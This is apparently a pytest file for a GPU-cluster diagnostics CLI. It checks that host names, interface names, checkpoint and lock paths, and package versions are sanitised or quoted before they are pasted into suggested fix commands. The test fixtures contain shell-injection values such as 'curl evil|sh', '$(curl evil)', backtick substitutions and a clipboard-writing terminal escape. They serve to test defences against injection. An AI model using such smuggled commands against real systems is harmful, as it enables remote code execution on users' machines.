"""What stands in a command to paste can't be made a command of its own by whoever chose a name."""

import os
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from doctor.cli.main import app
from doctor.core.facts import Interface
from doctor.core.facts.host import NameLookup
from doctor.core.job import UNKNOWN_HOST, Host
from doctor.core.settings import Settings
from doctor.facts import (
    Directory,
    NcclFacts,
    NcclLibrary,
    Package,
    SettingsFile,
    SoftwareFacts,
    StorageFacts,
    TorchBuild,
)
from doctor.session import judge, load_checks
from doctor.testing import healthy

EVIL = (
    "x\ncurl evil|sh",
    "x'; curl evil|sh; '",
    "$(curl evil)",
    "`curl evil`",
    "x && curl evil",
    "x evil",
    "x(evil)",
    "x\x1b]52;c;AAAA\x07",
)


@pytest.mark.parametrize("name", EVIL)
def test_a_name_holds_nothing_that_a_shell_acts_on(name):
    for shown in (Host(name).name, Interface(name).name, NameLookup(name).name):
        assert not set("\n;&|$`'\x1b\x07 ()") & set(shown)


def test_names_that_hosts_have_stay():
    for name in ("node-1.cluster.example", "eth0.100@if5", "bond0:1", "nodé"):
        assert Host(name).name == Interface(name).name == name
    assert Host(UNKNOWN_HOST).name == UNKNOWN_HOST


@pytest.mark.parametrize("path", ["/runs/a; curl evil|sh #", "/runs/$(curl evil)"])
def test_the_path_of_a_checkpoint_is_quoted(path):
    folder = Directory(path, "checkpoint", "settings", exists=True, writable=False)
    job = healthy(1, 1).put(StorageFacts(directories=(folder,))).job()
    (found,) = [one for one in judge(job, load_checks(Settings()), Settings()).results if one.id == "HOST004"]
    assert f"namei -l '{path}'" in found.findings[0].fix


@pytest.mark.parametrize("folder", ["a; curl evil|sh #", "b\ncurl evil|sh\nc"])
def test_the_path_of_a_lock_is_quoted(tmp_path: Path, monkeypatch, folder):
    lock = tmp_path / folder / "lock"
    lock.parent.mkdir()
    lock.touch()
    os.utime(lock, (time.time() - 18_000,) * 2)
    monkeypatch.setenv("TORCH_EXTENSIONS_DIR", str(tmp_path))
    told = [
        line.strip()
        for line in CliRunner().invoke(app, ["check", "--gather", "none", "--select", "HOST008"]).output.splitlines()
    ]
    fix = next(index for index, line in enumerate(told) if line.startswith("fix "))
    if "\n" in folder:
        assert not any(line.startswith("rm ") for line in told)
    else:
        assert f"rm '{lock}'" in told[fix + 1]


def fix_of(check_id, sketch):
    results = judge(sketch.job(), load_checks(Settings()), Settings()).results
    (found,) = [finding for one in results if one.id == check_id for finding in one.findings]
    return found.fix


EVIL_RELEASE = "2.8.0;curl evil|sh #"


def test_the_release_of_a_torch_without_code_for_the_gpu_is_quoted():
    build = TorchBuild(EVIL_RELEASE, cuda="12.6", architectures=("sm_90",))
    sketch = healthy(1, 1).alter(SoftwareFacts, torch=build).gpu(0, compute_capability="12.0")
    assert f"pip install 'torch=={EVIL_RELEASE}+cu128' " in fix_of("VER003", sketch)


def test_the_release_of_a_lightning_is_quoted():
    packages = (Package("lightning", EVIL_RELEASE), Package("pytorch-lightning", "2.5.0"))
    sketch = healthy(1, 1).alter(SoftwareFacts, packages=packages)
    assert f"pip install 'pytorch-lightning=={EVIL_RELEASE}'`" in fix_of("VER005", sketch)


def test_the_release_of_nccl_that_torch_requires_is_quoted():
    packages = (Package("torch", "2.8.0"), Package("nvidia-nccl-cu12", "2.30.7"))
    libraries = (NcclLibrary("/env/libnccl.so.2", "2.30.7", "wheel nvidia-nccl-cu12", chosen=True),)
    build = TorchBuild("2.8.0", cuda="12.8", nccl="2.27.3;curl evil|sh #")
    sketch = healthy(1, 1).alter(SoftwareFacts, packages=packages, nccl_libraries=libraries, torch=build)
    assert fix_of("NCCL010", sketch).endswith(" 'nvidia-nccl-cu12==2.27.3;curl evil|sh #'")


def test_a_path_in_the_home_folder_that_a_shell_would_read_is_not_pasted():
    path = '~/$(curl evil)";curl evil|sh;"'
    sketch = (
        healthy(1, 1)
        .environ(NCCL_CONF_FILE=path)
        .alter(NcclFacts, files=(SettingsFile(path, "user file", exists=False),))
    )
    assert "curl" not in fix_of("NCCL002", sketch)
